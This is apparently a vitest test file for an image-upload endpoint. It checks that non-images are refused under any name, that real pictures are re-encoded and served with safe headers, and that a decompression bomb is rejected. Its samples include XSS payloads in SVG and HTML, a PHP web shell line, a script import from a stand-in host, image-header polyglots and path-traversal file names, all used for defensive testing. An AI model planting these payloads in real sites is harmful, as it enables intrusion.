import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { beforeEach, expect, test } from "vitest";
import { images } from "#server/db/schema/images.ts";
import { aPerson, type Person } from "#testing/factories.ts";
import { smallPng } from "#testing/pictures.ts";
import { pngThatClaims } from "#testing/png-parts.ts";
import { freshServer, type TestServer } from "#testing/test-server.ts";

/** File name and content type do not matter: the bytes are a picture, or the file is refused. */
let server: TestServer;
let ana: Person;
beforeEach(async () => {
  server = await freshServer();
  ana = await aPerson(server);
});

const disguises: [filename: string, type: string][] = [
  ["foto.png", "image/png"],
  ["foto.svg", "image/svg+xml"],
  ["foto.html", "text/html"],
  ["foto.php.png", "image/webp"],
  ["../../foto.png\u0000.html", ""],
];

function upload(bytes: Uint8Array, [filename, type]: (typeof disguises)[number]) {
  const body = new FormData();
  body.append("file", new Blob([new Uint8Array(bytes)], { type }), filename);
  return server.request("/functions/v1/upload-image", { method: "POST", headers: ana.auth, body });
}

function files(): string[] {
  const folder = join(server.config.data_dir, "images");
  return existsSync(folder) ? readdirSync(folder) : [];
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
/** The first bytes of a picture, and then other data. */
const behind = (magic: string, text: string) =>
  Buffer.concat([Buffer.from(magic, "latin1"), Buffer.from(text)]);
const strangers: Record<string, Buffer> = {
  SVG: Buffer.from(svg),
  "SVG with a byte order mark": Buffer.from(`\ufeff<!-- a --><!DOCTYPE svg [<!ENTITY x "y">]>${svg}`),
  "SVG in UTF-16": Buffer.from(`\ufeff${svg}`, "utf16le"),
  "packed SVG": gzipSync(svg),
  HTML: Buffer.from("<!doctype html><script>alert(1)</script>"),
  JavaScript: Buffer.from("import 'https://evil.test/x.js'"),
  PHP: Buffer.from("<?php system($_GET[0]); ?>"),
  "a data address": Buffer.from(`data:image/png;base64,${smallPng.toString("base64")}`),
  "HTML behind a PNG's first bytes": behind("\x89PNG\r\n\x1a\n", "<script>alert(1)</script>"),
  "HTML behind a JPEG's first bytes": behind("\xff\xd8\xff\xe0", "<script>alert(1)</script>"),
  "a GIF that is JavaScript": behind("GIF89a", "=1;alert(1)//"),
  "HTML behind a WebP's first bytes": behind("RIFF\x20\0\0\0WEBPVP8 ", "<script>alert(1)</script>"),
  "a PDF": Buffer.from("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(1)>>>>endobj"),
  "a ZIP": behind("PK\x03\x04", "x".repeat(200)),
  nothing: Buffer.alloc(0),
};

test.each(Object.entries(strangers))("%s is refused, under any name", async (_, bytes) => {
  for (const disguise of disguises) {
    const response = await upload(bytes, disguise);
    expect([disguise, response.status]).toEqual([disguise, expect.toSatisfy((n) => n === 415 || n === 422)]);
    expect(await response.text()).not.toMatch(/vips|sharp|node_modules/i);
  }
  expect(files()).toEqual([]);
  expect(await server.db.select().from(images)).toEqual([]);
});

test("a picture is accepted under any name, stored under ours, and served as a picture", async () => {
  for (const disguise of disguises) {
    const response = await upload(smallPng, disguise);
    expect([disguise, response.status]).toEqual([disguise, 200]);
    const { url } = (await response.json()) as { url: string };
    expect(url).toMatch(/^\/img\/[0-9a-f]{32}-c[0-9a-f]\.webp$/);
    const { headers } = await server.request(url);
    expect([headers.get("content-type"), headers.get("x-content-type-options")]).toEqual([
      "image/webp",
      "nosniff",
    ]);
    expect(headers.get("content-security-policy")).toContain("sandbox");
  }
  expect(files()).toHaveLength(disguises.length * 2);
});

test("400 megapixels in a few bytes are not decoded", async () => {
  const bomb = pngThatClaims(20_000, 20_000, Buffer.alloc(20_001 * 200));
  const response = await upload(bomb, ["foto.png", "image/png"]);
  expect(response.status).toBe(422);
  expect(files()).toEqual([]);
});
